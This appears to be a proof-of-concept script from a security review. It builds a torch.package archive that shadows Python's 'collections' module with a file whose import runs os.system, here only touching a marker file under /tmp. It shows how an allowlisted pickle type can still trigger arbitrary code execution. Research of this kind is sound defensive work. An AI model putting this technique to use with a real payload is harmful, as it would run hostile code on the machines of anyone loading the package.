# torch.package archive that ships its own `collections` module (pkg/collections.py) whose import
# runs the payload; res/obj.pkl is a plain pickled collections.OrderedDict (allowlisted). The
# PackageImporter resolves every module the pickle names from the archive first.
import os, zipfile, pickle, collections
here = os.path.dirname(os.path.abspath(__file__))
src = b'import os\nos.system("touch /tmp/review39b/pwned_package_shadow")\nimport builtins\nclass OrderedDict(builtins.dict):\n    pass\n'
zin = zipfile.ZipFile(os.path.join(here, "pkg.pt"))
with zipfile.ZipFile(os.path.join(here, "pkg_shadow.pt"), "w") as zo:
    for i in zin.infolist():
        n = i.filename
        if n.endswith("cfgmod.py"):
            continue
        d = zin.read(n)
        if n.endswith("res/obj.pkl"):
            d = pickle.dumps(collections.OrderedDict(a=1), protocol=3)
        zo.writestr(n, d)
    zo.writestr("pkg/collections.py", src)
